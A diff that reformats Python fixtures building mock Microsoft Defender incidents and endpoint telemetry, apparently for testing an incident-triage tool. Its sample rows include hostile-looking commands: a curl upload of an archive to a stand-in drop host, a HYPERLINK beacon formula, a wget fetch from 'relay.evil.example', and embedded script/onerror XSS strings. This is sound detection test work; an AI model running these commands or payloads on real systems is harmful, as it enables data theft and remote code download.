@@ -60,23 +60,32 @@ def _exfiltration(end: datetime) -> Intrusion:
         f"-F 'file=@/tmp/q3.tgz' https://{drop}/u?<script>alert(1)</script>"
     )
     beacon = f'=HYPERLINK("https://{drop}/a","open")'
-    return Intrusion("exfiltration", _incident(
-        4101, "Archive of /srv/finance uploaded from srv-7", "high", "Exfiltration", at, upload,
-        _device(srv),
-        _ip(DROP_ADDRESS, "malicious"),
-        _process(srv, at, "tar", tar, "svc-backup"),
-        _file(srv, "/tmp/", ".stage.sh", STAGE_SHA1, "suspicious"),
-        _url(f"https://{drop}/u", "malicious"),
-    ), [
-        _wrote(srv, at, "/tmp/", ".stage.sh", STAGE_SHA1, f"https://{drop}/.stage.sh", "", DROP_ADDRESS),
-        _ran(srv, at, "tar", tar, "svc-backup"),
-        _connected(srv, upload, "curl", curl, "svc-backup", DROP_ADDRESS, drop),
-        _connected(srv, at + timedelta(minutes=50), "perl", beacon, "svc-backup", DROP_ADDRESS, drop),
-        # What must not be found: an upload that stays on the machine, and one that comes a minute too late.
-        _ran(other, at, "tar", "tar -czf /var/backups/etc.tgz /etc", "root"),
-        _connected(other, at + timedelta(minutes=5), "curl", "curl -s localhost", "root", "127.0.0.1"),
-        _connected(other, at + timedelta(minutes=31), "curl", "curl -T etc.tgz", "root", "198.51.100.77"),
-    ])
+    return Intrusion(
+        "exfiltration",
+        _incident(
+            4101,
+            "Archive of /srv/finance uploaded from srv-7",
+            "high",
+            "Exfiltration",
+            at,
+            upload,
+            _device(srv),
+            _ip(DROP_ADDRESS, "malicious"),
+            _process(srv, at, "tar", tar, "svc-backup"),
+            _file(srv, "/tmp/", ".stage.sh", STAGE_SHA1, "suspicious"),
+            _url(f"https://{drop}/u", "malicious"),
+        ),
+        [
+            _wrote(srv, at, "/tmp/", ".stage.sh", STAGE_SHA1, f"https://{drop}/.stage.sh", "", DROP_ADDRESS),
+            _ran(srv, at, "tar", tar, "svc-backup"),
+            _connected(srv, upload, "curl", curl, "svc-backup", DROP_ADDRESS, drop),
+            _connected(srv, at + timedelta(minutes=50), "perl", beacon, "svc-backup", DROP_ADDRESS, drop),
+            # What must not be found: an upload that stays on the machine, and one that comes a minute too late.
+            _ran(other, at, "tar", "tar -czf /var/backups/etc.tgz /etc", "root"),
+            _connected(other, at + timedelta(minutes=5), "curl", "curl -s localhost", "root", "127.0.0.1"),
+            _connected(other, at + timedelta(minutes=31), "curl", "curl -T etc.tgz", "root", "198.51.100.77"),
+        ],
+    )
 
 
 def _download(end: datetime) -> Intrusion:
@@ -86,18 +95,29 @@ def _download(end: datetime) -> Intrusion:
     at = end - timedelta(minutes=90)
     later = at + timedelta(minutes=7)
     command = "python3 -c \"import os;os.system('id')#<img src=x onerror=alert(1)>\" --token=not-real"
-    return Intrusion("download", _incident(
-        4102, "Suspicious script downloaded on wks-012", "medium", "CommandAndControl", at, later,
-        _device(wks),
-        _url(LURE_URL, "malicious"),
-        _ip(address, "suspicious"),
-        _file(wks, folder, name, sha1, "malicious"),
-    ), [
-        _wrote(wks, at, folder, name, sha1, LURE_URL, "https://mail.contoso.com/owa/", "203.0.113.45"),
-        _connected(wks, later, "python3", command, "user35", address, "updates.evil.example"),
-        # Excluded on a desktop, whatever it talks to.
-        _connected(wks, later, "snapd", "/usr/lib/snapd/snapd", "root", "203.0.113.46", "api.snaps.example"),
-    ])
+    return Intrusion(
+        "download",
+        _incident(
+            4102,
+            "Suspicious script downloaded on wks-012",
+            "medium",
+            "CommandAndControl",
+            at,
+            later,
+            _device(wks),
+            _url(LURE_URL, "malicious"),
+            _ip(address, "suspicious"),
+            _file(wks, folder, name, sha1, "malicious"),
+        ),
+        [
+            _wrote(wks, at, folder, name, sha1, LURE_URL, "https://mail.contoso.com/owa/", "203.0.113.45"),
+            _connected(wks, later, "python3", command, "user35", address, "updates.evil.example"),
+            # Excluded on a desktop, whatever it talks to.
+            _connected(
+                wks, later, "snapd", "/usr/lib/snapd/snapd", "root", "203.0.113.46", "api.snaps.example"
+            ),
+        ],
+    )
 
 
 def _windows(end: datetime) -> Intrusion:
@@ -105,23 +125,48 @@ def _windows(end: datetime) -> Intrusion:
     pc, site = "pc-002.contoso.com", "https://updates.evil.example/"
     sha1 = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
     at = end - timedelta(minutes=80)
-    return Intrusion("windows", _incident(
-        4103, "Malicious download on a Windows client", "medium", "InitialAccess", at, at,
-        _device(pc, "Windows11"),
-        _url(site, "malicious"),
-    ), [
-        _wrote(pc, at, "C:\\Users\\user9\\Downloads\\", "setup.exe", sha1, "https://files.example/setup.exe",
-               f"{site}kit/", "203.0.113.45"),
-    ])
+    return Intrusion(
+        "windows",
+        _incident(
+            4103,
+            "Malicious download on a Windows client",
+            "medium",
+            "InitialAccess",
+            at,
+            at,
+            _device(pc, "Windows11"),
+            _url(site, "malicious"),
+        ),
+        [
+            _wrote(
+                pc,
+                at,
+                "C:\\Users\\user9\\Downloads\\",
+                "setup.exe",
+                sha1,
+                "https://files.example/setup.exe",
+                f"{site}kit/",
+                "203.0.113.45",
+            ),
+        ],
+    )
 
 
 def _silent(end: datetime) -> Intrusion:
     """A device known by name alone, that sends no telemetry at all."""
     at = end - timedelta(minutes=70)
-    return Intrusion("silent", _incident(
-        4104, "Sensor of srv-lost stopped reporting", "medium", "DefenseEvasion", at, at,
-        {**_device("srv-lost.contoso.com"), "mdeDeviceId": None},
-    ))
+    return Intrusion(
+        "silent",
+        _incident(
+            4104,
+            "Sensor of srv-lost stopped reporting",
+            "medium",
+            "DefenseEvasion",
+            at,
+            at,
+            {**_device("srv-lost.contoso.com"), "mdeDeviceId": None},
+        ),
+    )
 
 
 def _merged(end: datetime) -> Intrusion:
@@ -135,12 +180,20 @@ def _merged(end: datetime) -> Intrusion:
 def _benign(end: datetime) -> Intrusion:
     """Nothing of this was ever seen in the fleet."""
     at = end - timedelta(minutes=60)
-    return Intrusion("benign", _incident(
-        4106, "Scan reported by a partner", "low", "Reconnaissance", at, at,
-        _ip("203.0.113.200", "unknown"),
-        _ip("192.0.2.10", "clean"),
-        _url("https://nowhere.example/probe", "suspicious"),
-    ))
+    return Intrusion(
+        "benign",
+        _incident(
+            4106,
+            "Scan reported by a partner",
+            "low",
+            "Reconnaissance",
+            at,
+            at,
+            _ip("203.0.113.200", "unknown"),
+            _ip("192.0.2.10", "clean"),
+            _url("https://nowhere.example/probe", "suspicious"),
+        ),
+    )
 
 
 def _spread(end: datetime) -> Intrusion:
@@ -149,14 +202,23 @@ def _spread(end: datetime) -> Intrusion:
     address, relay = "203.0.113.77", "relay.evil.example"
     at = end - timedelta(minutes=50)
     command = f"wget -q https://{relay}/x -O /tmp/.x"
-    return Intrusion("spread", _incident(
-        4107, "One tool on three devices", "high", "LateralMovement", at, at + timedelta(minutes=20),
-        _device(srv),
-        _device(wks),
-        _device(pc, "Windows11"),
-        _ip(address, "malicious"),
-        _url(f"https://{relay}/x", "malicious"),
-    ), [_connected(device, at, "wget", command, "svc-deploy", address, relay) for device in (srv, wks, pc)])
+    return Intrusion(
+        "spread",
+        _incident(
+            4107,
+            "One tool on three devices",
+            "high",
+            "LateralMovement",
+            at,
+            at + timedelta(minutes=20),
+            _device(srv),
+            _device(wks),
+            _device(pc, "Windows11"),
+            _ip(address, "malicious"),
+            _url(f"https://{relay}/x", "malicious"),
+        ),
+        [_connected(device, at, "wget", command, "svc-deploy", address, relay) for device in (srv, wks, pc)],
+    )
 
 
 def _incident(
@@ -164,37 +226,71 @@ def _incident(
 ) -> dict[str, Any]:
     opened = timestamp(last + timedelta(minutes=4))
     common: dict[str, Any] = {
-        "tenantId": TENANT_ID, "severity": severity, "assignedTo": None, "classification": "unknown",
-        "determination": "unknown", "createdDateTime": opened, "lastUpdateDateTime": opened, "comments": [],
+        "tenantId": TENANT_ID,
+        "severity": severity,
+        "assignedTo": None,
+        "classification": "unknown",
+        "determination": "unknown",
+        "createdDateTime": opened,
+        "lastUpdateDateTime": opened,
+        "comments": [],
         "incidentWebUrl": f"https://security.microsoft.com/incidents/{number}?tid={TENANT_ID}",
         "description": None,
     }
     alert = {
-        **common, "id": f"da{number}_1", "providerAlertId": f"da{number}_1", "incidentId": str(number),
-        "status": "new", "serviceSource": "microsoftDefenderForEndpoint", "title": title,
-        "category": category, "mitreTechniques": [], "firstActivityDateTime": timestamp(first),
+        **common,
+        "id": f"da{number}_1",
+        "providerAlertId": f"da{number}_1",
+        "incidentId": str(number),
+        "status": "new",
+        "serviceSource": "microsoftDefenderForEndpoint",
+        "title": title,
+        "category": category,
+        "mitreTechniques": [],
+        "firstActivityDateTime": timestamp(first),
         "lastActivityDateTime": timestamp(last),
         "evidence": [{"createdDateTime": opened, **item} for item in found],
     }
     return {
-        **common, "id": str(number), "status": "active", "redirectIncidentId": None, "displayName": title,
-        "customTags": [], "systemTags": [], "summary": None, "resolvingComment": None, "alerts": [alert],
+        **common,
+        "id": str(number),
+        "status": "active",
+        "redirectIncidentId": None,
+        "displayName": title,
+        "customTags": [],
+        "systemTags": [],
+        "summary": None,
+        "resolvingComment": None,
+        "alerts": [alert],
         "lastModifiedBy": "Microsoft 365 Defender-AlertCorrelation",
     }
 
 
 def _evidence(kind: str, verdict: str, **fields: Any) -> Evidence:
     return {
-        "@odata.type": f"#microsoft.graph.security.{kind}Evidence", "verdict": verdict,
-        "remediationStatus": "none", "roles": [], "detailedRoles": [], "tags": [], **fields,
+        "@odata.type": f"#microsoft.graph.security.{kind}Evidence",
+        "verdict": verdict,
+        "remediationStatus": "none",
+        "roles": [],
+        "detailedRoles": [],
+        "tags": [],
+        **fields,
     }
 
 
 def _device(name: str, platform: str = "Linux") -> Evidence:
     host, _, domain = name.partition(".")
     return _evidence(
-        "device", "unknown", mdeDeviceId=device_id(name), deviceDnsName=name, hostName=host, dnsDomain=domain,
-        osPlatform=platform, onboardingStatus="onboarded", healthStatus="active", riskScore="medium",
+        "device",
+        "unknown",
+        mdeDeviceId=device_id(name),
+        deviceDnsName=name,
+        hostName=host,
+        dnsDomain=domain,
+        osPlatform=platform,
+        onboardingStatus="onboarded",
+        healthStatus="active",
+        riskScore="medium",
     )
 
 
@@ -212,15 +308,23 @@ def _image(folder: str, name: str, sha1: str) -> dict[str, Any]:
 
 def _file(device: str, folder: str, name: str, sha1: str, verdict: str) -> Evidence:
     return _evidence(
-        "file", verdict, mdeDeviceId=device_id(device), detectionStatus="detected",
+        "file",
+        verdict,
+        mdeDeviceId=device_id(device),
+        detectionStatus="detected",
         fileDetails=_image(folder, name, sha1),
     )
 
 
 def _process(device: str, at: datetime, image: str, command: str, account: str) -> Evidence:
     return _evidence(
-        "process", "unknown", mdeDeviceId=device_id(device), processId=4711, processCommandLine=command,
-        processCreationDateTime=timestamp(at), userAccount={"accountName": account},
+        "process",
+        "unknown",
+        mdeDeviceId=device_id(device),
+        processId=4711,
+        processCommandLine=command,
+        processCreationDateTime=timestamp(at),
+        userAccount={"accountName": account},
         imageFile=_image("/usr/bin/", image, device_id(f"/usr/bin/{image}")),
     )
 
@@ -231,9 +335,14 @@ def _on(device: str, at: datetime, action: str) -> Row:
 
 def _ran(device: str, at: datetime, image: str, command: str, account: str) -> tuple[str, Row]:
     return "DeviceProcessEvents", {
-        **_on(device, at, "ProcessCreated"), "FileName": image, "FolderPath": f"/usr/bin/{image}",
-        "ProcessCommandLine": command, "AccountName": account, "ProcessId": 4711,
-        "SHA1": device_id(f"/usr/bin/{image}"), "InitiatingProcessFileName": "bash",
+        **_on(device, at, "ProcessCreated"),
+        "FileName": image,
+        "FolderPath": f"/usr/bin/{image}",
+        "ProcessCommandLine": command,
+        "AccountName": account,
+        "ProcessId": 4711,
+        "SHA1": device_id(f"/usr/bin/{image}"),
+        "InitiatingProcessFileName": "bash",
     }
 
 
@@ -241,10 +350,18 @@ def _connected(
     device: str, at: datetime, image: str, command: str, account: str, address: str, name: str = ""
 ) -> tuple[str, Row]:
     return "DeviceNetworkEvents", {
-        **_on(device, at, "ConnectionSuccess"), "RemoteIP": address, "RemotePort": 443, "RemoteUrl": name,
-        "RemoteIPType": "Public", "Protocol": "Tcp", "LocalIPType": "Private", "LocalPort": 40112,
-        "InitiatingProcessFileName": image, "InitiatingProcessFolderPath": f"/usr/bin/{image}",
-        "InitiatingProcessCommandLine": command, "InitiatingProcessAccountName": account,
+        **_on(device, at, "ConnectionSuccess"),
+        "RemoteIP": address,
+        "RemotePort": 443,
+        "RemoteUrl": name,
+        "RemoteIPType": "Public",
+        "Protocol": "Tcp",
+        "LocalIPType": "Private",
+        "LocalPort": 40112,
+        "InitiatingProcessFileName": image,
+        "InitiatingProcessFolderPath": f"/usr/bin/{image}",
+        "InitiatingProcessCommandLine": command,
+        "InitiatingProcessAccountName": account,
         "InitiatingProcessId": 4712,
     }
 
@@ -253,6 +370,12 @@ def _wrote(
     device: str, at: datetime, folder: str, name: str, sha1: str, url: str, referrer: str, address: str
 ) -> tuple[str, Row]:
     return "DeviceFileEvents", {
-        **_on(device, at, "FileCreated"), "FileName": name, "FolderPath": folder + name, "SHA1": sha1,
-        "FileOriginUrl": url, "FileOriginReferrerUrl": referrer, "FileOriginIP": address, "FileSize": 1204,
+        **_on(device, at, "FileCreated"),
+        "FileName": name,
+        "FolderPath": folder + name,
+        "SHA1": sha1,
+        "FileOriginUrl": url,
+        "FileOriginReferrerUrl": referrer,
+        "FileOriginIP": address,
+        "FileSize": 1204,
     }
